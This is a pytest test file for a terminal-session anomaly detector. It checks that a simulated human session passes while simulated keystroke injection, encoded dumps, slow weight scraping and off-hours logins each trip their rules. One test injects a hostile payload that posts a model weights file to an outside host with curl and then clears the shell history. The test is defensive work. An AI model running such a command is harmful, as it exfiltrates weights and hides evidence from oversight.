"""Anomaly rules on synthetic sessions: a person passes; each attack trips its rule."""

from __future__ import annotations

import base64
import random

import pytest

from gateway import anomaly as an

START = 1000.0
NOON = 12


def session(events: list[tuple[float, str, bytes]], hour: int = NOON,
            baseline: dict[str, object] | None = None,
            rules: tuple[an.Rule, ...] = an.DEFAULT_RULES) -> set[str]:
    """Feed (t, 'i'|'o', data) events and evaluate every second, as the server does."""
    m = an.SessionMetrics(START, hour)
    d = an.Detector(rules, baseline or {})
    fired: set[str] = set()
    next_eval = START
    for t, kind, data in sorted(events, key=lambda e: e[0]):
        (m.on_input if kind == "i" else m.on_output)(t, data)
        if t >= next_eval:
            fired |= {x.rule.id for x in d.evaluate(m.values(t))}
            next_eval = t + 1.0
    end = events[-1][0] + 1 if events else START
    fired |= {x.rule.id for x in d.evaluate(m.values(end))}
    return fired


def human(minutes: float, seed: int = 1) -> list[tuple[float, str, bytes]]:
    """A person: types a command at 3-8 keys/s with pauses, reads a screen of output."""
    rnd = random.Random(seed)
    t, ev = START, []
    cmds = [b"ls -la", b"python3 probe.py --layer 12", b"less notes.txt", b"git log --oneline",
            b"vim analysis.md", b"nvidia-smi"]
    while t < START + minutes * 60:
        for ch in rnd.choice(cmds) + b"\r":
            t += rnd.uniform(0.12, 0.35)
            ev.append((t, "i", bytes([ch])))
            ev.append((t + 0.01, "o", bytes([ch])))
        t += 0.2
        text = "".join(rnd.choice("abcdefgh ijklmnop qrstuv wxyz\n") for _ in range(1800))
        ev.append((t, "o", b"\x1b[2J" + text.encode()))
        t += rnd.uniform(5, 40)                       # reading
    return ev


def test_human_typing_and_reading_passes() -> None:
    assert session(human(30)) == set()


def test_keystroke_injector_burst_locks() -> None:
    ev = human(2)
    t = ev[-1][0] + 2
    payload = b"curl -d @/data/weights.bin http://x; history -c\r" * 3
    for i, ch in enumerate(payload):                   # a fake HID: 2 ms per key
        ev.append((t + i * 0.002, "i", bytes([ch])))
    fired = session(ev)
    assert "keystroke-injection" in fired and "paste-burst" in fired
    rule = next(r for r in an.DEFAULT_RULES if r.id == "keystroke-injection")
    assert rule.action == "lock"


def test_bulk_base64_dump_trips_dense_output() -> None:
    ev = human(1)
    t = ev[-1][0] + 1
    blob = base64.encodebytes(random.Random(3).randbytes(48 * 1024))
    for i in range(0, len(blob), 4096):
        ev.append((t + i / 8192, "o", blob[i:i + 4096]))
    assert "bulk-encoded-output" in session(ev)


def test_hex_dump_trips_dense_output() -> None:
    data = random.Random(4).randbytes(16 * 1024)
    dump = b"".join(b"%08x: " % i + data[i:i + 16].hex(" ").encode() + b"\n"
                    for i in range(0, len(data), 16))
    ev = [(START + i / 8192, "o", dump[i:i + 4096]) for i in range(0, len(dump), 4096)]
    assert "bulk-encoded-output" in session(ev)


def test_slow_steady_scrape_trips_its_rule() -> None:
    # 3 KiB/s of ordinary-looking text for 12 minutes, well under the 8 KiB/s budget
    line = b"layer.12.mlp.weight[0:32] = 0.0132 -0.0044 0.0201 0.0083 ...\r\n"
    ev = [(START + s, "o", line * 48) for s in range(12 * 60)]
    fired = session(ev)
    assert "slow-scrape" in fired and "bulk-encoded-output" not in fired


def test_off_hours_login() -> None:
    ev = human(1)
    assert "off-hours-login" in session(ev, hour=3)
    assert "off-hours-login" not in session(ev, hour=19)
    assert an.login_hour(1_767_225_600.0 + 3 * 3600) == 3           # 03:00 UTC
    assert an.login_hour(1_767_225_600.0, "Europe/Paris") == 1


def test_output_relative_to_the_users_baseline() -> None:
    base: dict[str, object] = {}
    for day in range(5):
        base = an.updated_baseline(base, {"output_bytes": 50_000.0},
                                   f"2026-01-0{day + 1}", 14)
    big = [(START + s, "o", b"x" * 1000) for s in range(600)]      # 600 KB, 12x usual
    assert "output-above-baseline" in session(big, baseline=base)
    assert "output-above-baseline" not in session(big[:400], baseline=base)
    # no baseline yet (fewer than min_sessions): the relative rule stays quiet
    assert "output-above-baseline" not in session(big, baseline={})


def test_baseline_keeps_only_the_last_days() -> None:
    base: dict[str, object] = {}
    for day in range(1, 21):
        base = an.updated_baseline(base, {"output_bytes": float(day)}, f"2026-01-{day:02d}", 14)
    days = base["days"]
    assert isinstance(days, dict) and len(days) == 14 and min(days) == "2026-01-07"
    mean, n = an.baseline_means(base)["output_bytes"]
    assert n == 14 and mean == sum(range(7, 21)) / 14


def test_each_rule_fires_once() -> None:
    m = an.SessionMetrics(START, 3)
    d = an.Detector(an.DEFAULT_RULES)
    assert [t.rule.id for t in d.evaluate(m.values(START))] == ["off-hours-login"]
    assert d.evaluate(m.values(START + 1)) == []


@pytest.mark.parametrize("obj, msg", [
    ({"id": "x", "metric": "nope", "action": "log", "above": 1}, "unknown metric"),
    ({"id": "x", "metric": "output_bytes", "action": "kill", "above": 1}, "action"),
    ({"id": "x", "metric": "output_bytes", "action": "log"}, "exactly one condition"),
    ({"id": "x", "metric": "output_bytes", "action": "log", "above": 1, "below": 2},
     "exactly one condition"),
    ({"id": "x", "metric": "output_bytes", "action": "log", "outside": [1, 2]}, "login_hour"),
    ({"id": "x", "metric": "output_bytes", "action": "log", "above": "1"}, "number"),
    ({"id": "x", "metric": "output_bytes", "action": "log", "above": 1, "colour": 1},
     "unknown key"),
])
def test_rule_config_refused(obj: dict[str, object], msg: str) -> None:
    with pytest.raises(ValueError, match=msg):
        an.rule_from_mapping(obj)


def test_count_keys_treats_escape_sequences_as_one() -> None:
    assert an.count_keys(b"\x1b[A\x1b[B") == 2 and an.count_keys(b"abc") == 3
    assert an.count_keys(b"\x1bOP") == 1
